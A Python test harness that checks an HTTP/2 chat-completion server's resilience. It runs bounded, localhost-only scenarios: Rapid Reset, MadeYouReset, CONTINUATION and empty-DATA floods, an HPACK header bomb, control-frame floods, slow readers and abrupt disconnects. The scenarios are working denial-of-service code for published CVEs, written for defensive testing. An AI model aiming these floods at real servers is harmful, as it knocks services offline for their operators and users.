#!/usr/bin/env python3
"""Speaks HTTP/2 to the server frame by frame, and does what no good client does.

It stands on the layers of the `h2` package (hyperframe, hpack), not on its connection: that would refuse most of this.
Each scenario prints JSON objects, one a line, and exits with 1 when the server did what it must not: served on through
a flood, or served nobody after it. Everything is bounded in count and in time.
"""

import argparse
import json
import resource
import select
import socket
import ssl
import struct
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8


def report(**members):
    print(json.dumps(members), flush=True)


def expect(condition, message):
    if not condition:
        report(unexpected=message)
        sys.exit(1)


class Stream:
    """What came on one stream."""

    def __init__(self):
        self.fields = []
        self.body = b""
        self.ended = False
        self.reset = None

    @property
    def status(self):
        return next((int(value) for name, value in self.fields if name == ":status" and value[0] != "1"), None)

    @property
    def events(self):
        return self.body.count(b"\n\n")


class Wire:
    """One connection. Reads whenever it writes, so that neither side can wait for the other."""

    def __init__(self, options, window=1 << 20, acknowledge=True, receive_buffer=None):
        self.acknowledge = acknowledge
        self.give_back = True
        self.streams = {}
        self.frames = {}
        self.goaway = None
        self.closed = None
        self.next_stream = 1
        self.encoder, self.decoder = Encoder(), Decoder()
        self.inbound, self.outbound, self.block = b"", b"", b""

        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.settimeout(30)
        self.socket.connect((options.host, options.port))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.tls = None
        if options.ca:
            context = ssl.create_default_context(cafile=options.ca)
            context.set_alpn_protocols(["h2"])
            self.tls_in, self.tls_out = ssl.MemoryBIO(), ssl.MemoryBIO()
            self.tls = context.wrap_bio(self.tls_in, self.tls_out, server_hostname="localhost")
            self._handshake()
            expect(self.tls.selected_alpn_protocol() == "h2", "h2 was not chosen")
        self.socket.setblocking(False)
        self.send(PREFACE + SettingsFrame(0, settings={4: window, 2: 0}).serialize())
        if window > 65535:
            self.send(WindowUpdateFrame(0, window_increment=window).serialize())

    def _handshake(self):
        while True:
            try:
                self.tls.do_handshake()
                self.socket.sendall(self.tls_out.read())
                return
            except ssl.SSLWantReadError:
                self.socket.sendall(self.tls_out.read())
                data = self.socket.recv(65536)
                expect(data, "closed during the handshake")
                self.tls_in.write(data)

    # -- Writing

    def send(self, data, pump=True):
        if self.closed is not None:
            return
        if self.tls:
            self.tls.write(data)
            data = self.tls_out.read()
        self.outbound += data
        if pump:
            self.pump(0)
            deadline = time.monotonic() + 10
            while len(self.outbound) > 1 << 20 and self.closed is None:
                self.pump(0.1)
                if time.monotonic() > deadline:
                    self.closed = "stalled"

    def fields(self, options, method, path, more=()):
        scheme = "https" if options.ca else "http"
        return [
            (":method", method),
            (":scheme", scheme),
            (":authority", f"localhost:{options.port}"),
            (":path", path),
            *more,
        ]

    def open(self, fields, body=None, end=True):
        """HEADERS, and DATA when there is a body; ends the stream if told to."""
        identifier = self.next_stream
        self.next_stream += 2
        self.streams[identifier] = Stream()
        block = self.encoder.encode(fields)
        frames = [HeadersFrame(identifier, data=block[:16384])]
        frames += [ContinuationFrame(identifier, data=block[i : i + 16384]) for i in range(16384, len(block), 16384)]
        if body is None and end:
            frames[0].flags.add("END_STREAM")
        frames[-1].flags.add("END_HEADERS")
        self.send(b"".join(frame.serialize() for frame in frames))
        if body is not None:
            for start in range(0, len(body), 16384):
                frame = DataFrame(identifier, data=body[start : start + 16384])
                if end and start + 16384 >= len(body):
                    frame.flags.add("END_STREAM")
                self.send(frame.serialize())
        return identifier

    def reset(self, identifier, code=CANCEL):
        self.send(RstStreamFrame(identifier, error_code=code).serialize())

    def close(self, abort=False):
        if abort:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.socket.close()
        self.closed = self.closed or "by us"

    # -- Reading

    def pump(self, seconds):
        """Sends what is waiting and takes what has come, for at most so long."""
        if self.closed is not None:
            return
        # poll, since select has no room for the descriptors of a thousand connections.
        poller = select.poll()
        poller.register(self.socket, select.POLLIN | (select.POLLOUT if self.outbound else 0))
        ready = sum(events for _, events in poller.poll(1000 * seconds))
        readable, writable = ready & ~select.POLLOUT, ready & select.POLLOUT
        try:
            if writable:
                self.outbound = self.outbound[self.socket.send(self.outbound) :]
            if readable:
                data = self.socket.recv(1 << 18)
                if not data:
                    self.closed = "closed"
                    return
                self._take(data)
        except BlockingIOError:
            pass
        except (ConnectionError, ssl.SSLError) as error:
            self._take_rest()
            self.closed = self.closed or type(error).__name__

    def _take_rest(self):
        """What came before the connection broke, the server's GOAWAY above all: a send may have failed before it was read."""
        try:
            while data := self.socket.recv(1 << 18):
                self._take(data)
        except (OSError, ssl.SSLError):
            pass

    def _take(self, data):
        if not self.tls:
            self.inbound += data
        else:
            self.tls_in.write(data)
            while True:
                try:
                    plain = self.tls.read(1 << 18)
                except ssl.SSLWantReadError:
                    break
                except ssl.SSLZeroReturnError:
                    plain = b""
                if not plain:
                    self.closed = "closed"
                    break
                self.inbound += plain
        while len(self.inbound) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.inbound[:9]))
            if len(self.inbound) < 9 + length:
                return
            frame.parse_body(memoryview(self.inbound[9 : 9 + length]))
            self.inbound = self.inbound[9 + length :]
            self._on(frame)

    def _on(self, frame):
        name = type(frame).__name__.removesuffix("Frame")
        self.frames[name] = self.frames.get(name, 0) + 1
        stream = self.streams.get(frame.stream_id)
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags and self.acknowledge:
            self.send(SettingsFrame(0, flags=["ACK"]).serialize(), pump=False)
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self.send(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize(), pump=False)
        elif isinstance(frame, GoAwayFrame):
            self.goaway = frame.error_code
        elif isinstance(frame, RstStreamFrame) and stream:
            stream.reset = frame.error_code
        elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
            self.block += frame.data
            if "END_HEADERS" in frame.flags:
                fields = self.decoder.decode(self.block)
                self.block = b""
                if stream:
                    stream.fields += [(str(name), str(value)) for name, value in fields]
        elif isinstance(frame, DataFrame):
            if stream:
                stream.body += bytes(frame.data)
            if self.give_back and frame.flow_controlled_length:
                for identifier in (0, frame.stream_id):
                    update = WindowUpdateFrame(identifier, window_increment=frame.flow_controlled_length)
                    self.send(update.serialize(), pump=False)
        if stream and "END_STREAM" in frame.flags:
            stream.ended = True

    def wait(self, condition, seconds):
        """Whether the condition came true in time; a connection that ended waits no longer."""
        deadline = time.monotonic() + seconds
        while not condition():
            left = deadline - time.monotonic()
            if left <= 0 or self.closed is not None:
                return condition()
            self.pump(min(left, 0.05))
        return True

    @property
    def refused(self):
        """Whether the server has ended this connection, or said that it will."""
        return self.closed is not None or self.goaway not in (None, 0)


def chat_body(options):
    body = {
        "model": options.model,
        "stream": True,
        "max_tokens": options.tokens,
        "messages": [{"role": "user", "content": options.prompt}],
    }
    return json.dumps(body | json.loads(options.extra or "{}")).encode()


def chat_fields(wire, options, length):
    more = [("content-type", "application/json"), ("content-length", str(length))]
    return wire.fields(options, "POST", "/v1/chat/completions", more)


def is_served(wire, options, seconds=30):
    identifier = wire.open(wire.fields(options, "GET", "/health"))
    stream = wire.streams[identifier]
    wire.wait(lambda: stream.ended or stream.reset is not None, seconds)
    return stream.status == 200


def served_after(options):
    """A new connection is served as if nothing had been."""
    wire = Wire(options)
    good = is_served(wire, options)
    wire.close()
    report(served_after=good)
    expect(good, "a new connection is not served")


# -- A client that leaves


def leave(options):
    """Leaves in a phase (--phase), in a way (--how), and says when (`left`, as time.time() has it)."""
    wire = Wire(options)
    body = chat_body(options)
    wire.wait(lambda: "Settings" in wire.frames, 30)
    if options.phase == "head":
        identifier = wire.open(chat_fields(wire, options, len(body)), end=False)
        time.sleep(options.after)
    elif options.phase == "body":
        identifier = wire.open(chat_fields(wire, options, len(body)), body=body[: len(body) // 2], end=False)
        time.sleep(options.after)
    else:
        identifier = wire.open(chat_fields(wire, options, len(body)), body=body)
        stream = wire.streams[identifier]
        if options.phase == "prefill":
            # Comments of the server's own may have come; an event of the executor's may not.
            wire.wait(lambda: b"data:" in stream.body, options.after)
            expect(b"data:" not in stream.body, "the executor was not silent")
        else:
            wire.wait(lambda: stream.events >= options.events, 30)
            expect(stream.events >= options.events, f"only {stream.events} events: {stream.body[:300]!r}")
    stream = wire.streams[identifier]
    expect(stream.reset is None and wire.closed is None, f"the server left first: {stream.fields} {stream.body[:300]!r}")
    left = time.time()
    if options.how == "reset":
        wire.reset(identifier)
    else:
        wire.close(abort=options.how == "abort")
    wire.pump(0)
    report(phase=options.phase, how=options.how, events=stream.events, status=stream.status, left=left)
    if options.how == "reset":
        good = is_served(wire, options)
        report(served_after=good)
        expect(good, "the same connection is not served after a reset")
    wire.close()


def stream_to_end(options):
    """A whole stream: what came, how it ended, and the times of its events."""
    wire = Wire(options)
    body = chat_body(options)
    started = time.monotonic()
    stream = wire.streams[wire.open(chat_fields(wire, options, len(body)), body=body)]
    times = []

    def moved():
        while len(times) < stream.events:
            times.append(round(1000 * (time.monotonic() - started), 3))
        return stream.ended or stream.reset is not None

    wire.wait(moved, options.seconds)
    report(
        status=stream.status,
        fields=dict(stream.fields),
        body=stream.body.decode(errors="replace"),
        events=stream.events,
        times_ms=times,
        ended=stream.ended,
        reset=stream.reset,
        goaway=wire.goaway,
        closed=wire.closed,
    )
    wire.close()


def request(options):
    """One request as it is told (--method, --path, --field, --body); --unfinished leaves its body open."""
    wire = Wire(options)
    # A CONNECT has neither (RFC 9113 section 8.5).
    omitted = (":scheme", ":path") if options.method == "CONNECT" else ()
    fields = [field for field in wire.fields(options, options.method, options.path) if field[0] not in omitted]
    fields += [tuple(field.split(":", 1)) for field in options.field]
    body = options.body.encode() if options.body is not None else None
    stream = wire.streams[wire.open(fields, body=body, end=not options.unfinished)]
    wire.wait(lambda: stream.ended or stream.reset is not None, options.seconds)
    if options.unfinished:
        # A reset follows the end.
        wire.wait(lambda: stream.reset is not None, 30)
    report(
        status=stream.status,
        fields=dict(stream.fields),
        body=stream.body.decode(errors="replace"),
        ended=stream.ended,
        reset=stream.reset,
        goaway=wire.goaway,
        closed=wire.closed,
    )
    wire.close()


def drain(options):
    """A stream during which the server is told to end: asks for /health once GOAWAY announces it."""
    wire = Wire(options)
    body = chat_body(options)
    stream = wire.streams[wire.open(chat_fields(wire, options, len(body)), body=body)]
    wire.wait(lambda: stream.events > 0, options.seconds)
    report(streaming=stream.events > 0)
    wire.wait(lambda: wire.goaway is not None, options.seconds)
    health = wire.streams[wire.open(wire.fields(options, "GET", "/health"))]
    wire.wait(lambda: health.ended or health.reset is not None, options.seconds)
    report(answered=health.ended)
    wire.wait(lambda: stream.ended or stream.reset is not None, options.seconds)
    report(
        goaway=wire.goaway,
        health=health.status,
        health_body=health.body.decode(),
        ended=stream.ended,
        reset=stream.reset,
        body=stream.body.decode(errors="replace"),
    )
    wire.close()


# -- A client that does not read


def slow_readers(options):
    """Many connections with streams that nobody reads: tiny windows, or a socket that is left alone (--stop)."""
    window = options.window if options.stop == "window" else 1 << 20
    body = chat_body(options)
    wires = []
    for _ in range(options.connections):
        wire = Wire(options, window=window, receive_buffer=4096 if options.stop == "socket" else None)
        wire.give_back = False
        for _ in range(options.streams):
            wire.open(chat_fields(wire, options, len(body)), body=body)
        wires.append(wire)
    report(established=len(wires), streams=options.streams * len(wires))
    deadline = time.monotonic() + options.seconds
    while time.monotonic() < deadline:
        if options.stop == "window":
            for wire in wires:
                wire.pump(0)
        time.sleep(0.05)
    if options.stop == "socket":
        for wire in wires:
            wire.wait(lambda: False, 0.01)
    streams = [stream for wire in wires for stream in wire.streams.values()]
    report(
        held=sum(wire.closed is None for wire in wires),
        closed=sum(wire.closed is not None for wire in wires),
        reset=sum(stream.reset is not None for stream in streams),
        answered=sum(stream.status == 200 for stream in streams),
        bytes=sum(len(stream.body) for stream in streams),
    )
    for wire in wires:
        wire.close(abort=True)
    served_after(options)


# -- Floods


def flood(options, make, name, must_end=True, prepare=None):
    """Sends up to --count of what `make(i)` gives, and says when and how the server ended it."""
    wire = Wire(options)
    wire.wait(lambda: "Settings" in wire.frames, 30)
    if prepare:
        prepare(wire)
    started = time.monotonic()
    sent = 0
    while sent < options.count and not wire.refused and time.monotonic() - started < options.seconds:
        wire.send(b"".join(make(wire, sent + i) for i in range(min(50, options.count - sent))))
        sent += 50
    wire.wait(lambda: wire.refused, 30)
    report(
        scenario=name,
        sent=min(sent, options.count),
        ended=wire.refused,
        goaway=wire.goaway,
        closed=wire.closed,
        seconds=round(time.monotonic() - started, 3),
        resets_from_server=wire.frames.get("RstStream", 0),
    )
    ended = wire.refused
    wire.close(abort=True)
    served_after(options)
    expect(ended or not must_end, f"{name}: the server took all of it")


def rapid_reset(options):
    """HEADERS and RST_STREAM, again and again (CVE-2023-44487)."""

    def make(wire, _):
        identifier = wire.next_stream
        wire.next_stream += 2
        block = wire.encoder.encode(wire.fields(options, "GET", "/v1/models"))
        return (
            HeadersFrame(identifier, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize()
            + RstStreamFrame(identifier, error_code=CANCEL).serialize()
        )

    flood(options, make, "rapid_reset")


def made_you_reset(options):
    """Streams that the server has to reset: a window beyond 2^31-1 on each (CVE-2025-8671)."""
    body = chat_body(options)

    def make(wire, _):
        identifier = wire.next_stream
        wire.next_stream += 2
        block = wire.encoder.encode(chat_fields(wire, options, len(body)))
        return (
            HeadersFrame(identifier, data=block, flags=["END_HEADERS"]).serialize()
            + DataFrame(identifier, data=body, flags=["END_STREAM"]).serialize()
            + WindowUpdateFrame(identifier, window_increment=(1 << 31) - 1).serialize()
        )

    flood(options, make, "made_you_reset")


def ping_flood(options):
    flood(options, lambda wire, i: PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize(), "ping_flood")


def settings_flood(options):
    flood(options, lambda wire, i: SettingsFrame(0, settings={4: 65535}).serialize(), "settings_flood")


def priority_flood(options):
    def make(wire, i):
        return PriorityFrame(2 * i + 1, depends_on=0, stream_weight=1).serialize()

    flood(options, make, "priority_flood")


def window_update_flood(options):
    flood(options, lambda wire, i: WindowUpdateFrame(0, window_increment=1).serialize(), "window_update_flood")


def empty_data(options):
    """A request body of DATA frames without a byte (CVE-2019-9518)."""
    opened = {}

    def prepare(wire):
        opened["stream"] = wire.open(chat_fields(wire, options, 1000), end=False)

    flood(options, lambda wire, i: DataFrame(opened["stream"], data=b"").serialize(), "empty_data", prepare=prepare)


def header_bomb(options):
    """One field, then references of one byte to it: --count fields of --value bytes each, from little wire."""
    wire = Wire(options)
    wire.wait(lambda: "Settings" in wire.frames, 30)
    block = wire.encoder.encode(wire.fields(options, "GET", "/v1/models"))
    # Literal with incremental indexing, a new name: it becomes entry 62, so 0xbe names it.
    value = b"v" * options.value
    block += b"\x40\x01a" + _hpack_length(len(value)) + value + b"\xbe" * options.count
    identifier = wire.next_stream
    wire.next_stream += 2
    stream = wire.streams[identifier] = Stream()
    pieces = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    started = time.monotonic()
    for i, piece in enumerate(pieces):
        if wire.refused:
            break
        kind = HeadersFrame if i == 0 else ContinuationFrame
        frame = kind(identifier, data=piece, flags=["END_STREAM"] if i == 0 else [])
        if i == len(pieces) - 1:
            frame.flags.add("END_HEADERS")
        wire.send(frame.serialize())
    wire.wait(lambda: wire.refused or stream.ended or stream.reset is not None, 30)
    report(
        scenario="header_bomb",
        wire_bytes=len(block),
        status=stream.status,
        reset=stream.reset,
        goaway=wire.goaway,
        closed=wire.closed,
        seconds=round(time.monotonic() - started, 3),
    )
    refused = wire.refused or stream.reset is not None or stream.status in (400, 431)
    wire.close(abort=True)
    served_after(options)
    expect(refused, "the fields were taken")


def _hpack_length(length):
    if length < 127:
        return bytes([length])
    encoded, rest = [127], length - 127
    while rest >= 128:
        encoded.append(rest % 128 + 128)
        rest //= 128
    return bytes(encoded + [rest])


def continuation_flood(options):
    """A header block that never ends (CVE-2024-28182)."""

    def prepare(wire):
        block = wire.encoder.encode(wire.fields(options, "GET", "/v1/models"))
        wire.send(HeadersFrame(1, data=block, flags=["END_STREAM"]).serialize())

    def make(wire, i):
        return ContinuationFrame(1, data=b"\x00\x01a\x01b").serialize()

    flood(options, make, "continuation_flood", prepare=prepare)


def settings_unacknowledged(options):
    """The server's SETTINGS are never acknowledged: it has to end the connection by itself."""
    wire = Wire(options, acknowledge=False)
    started = time.monotonic()
    wire.wait(lambda: wire.refused, options.seconds)
    report(scenario="settings_unacknowledged", ended=wire.refused, goaway=wire.goaway, closed=wire.closed,
           seconds=round(time.monotonic() - started, 3))
    ended = wire.refused
    wire.close(abort=True)
    served_after(options)
    expect(ended, "SETTINGS may stay unacknowledged")


SCENARIOS = {
    function.__name__: function
    for function in (
        leave, stream_to_end, request, drain, slow_readers, rapid_reset, made_you_reset, ping_flood, settings_flood, priority_flood,
        window_update_flood, empty_data, header_bomb, continuation_flood, settings_unacknowledged,
    )
}  # fmt: skip


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", help="the authority to trust; without it the connection is in clear")
    parser.add_argument("--model", default="demo")
    parser.add_argument("--prompt", default="Hello")
    parser.add_argument("--tokens", type=int, default=1000)
    parser.add_argument("--extra", help="further members of the request's body, as a JSON object")
    parser.add_argument("--phase", choices=("head", "body", "prefill", "streaming"), default="streaming")
    parser.add_argument("--how", choices=("reset", "close", "abort"), default="reset", help="RST_STREAM, FIN or RST")
    parser.add_argument("--after", type=float, default=0.1, help="seconds to stay in the phase before leaving")
    parser.add_argument("--events", type=int, default=3, help="events to see before leaving a stream")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=1, help="streams on each of the connections")
    parser.add_argument("--window", type=int, default=16, help="the stream windows of slow readers, in bytes")
    parser.add_argument("--stop", choices=("window", "socket"), default="window")
    parser.add_argument("--count", type=int, default=20000, help="frames of a flood, fields of a bomb")
    parser.add_argument("--value", type=int, default=1, help="bytes in the value of a bomb's field")
    parser.add_argument("--method", default="GET")
    parser.add_argument("--path", default="/health")
    parser.add_argument("--field", action="append", default=[], help="name:value of a request; may be repeated")
    parser.add_argument("--body", help="the body of a request")
    parser.add_argument("--unfinished", action="store_true", help="a request's body never ends")
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("scenario", choices=SCENARIOS)
    options = parser.parse_args()
    expect(options.host in ("127.0.0.1", "::1", "localhost"), "only this machine is ever a target")
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    SCENARIOS[options.scenario](options)


if __name__ == "__main__":
    main()
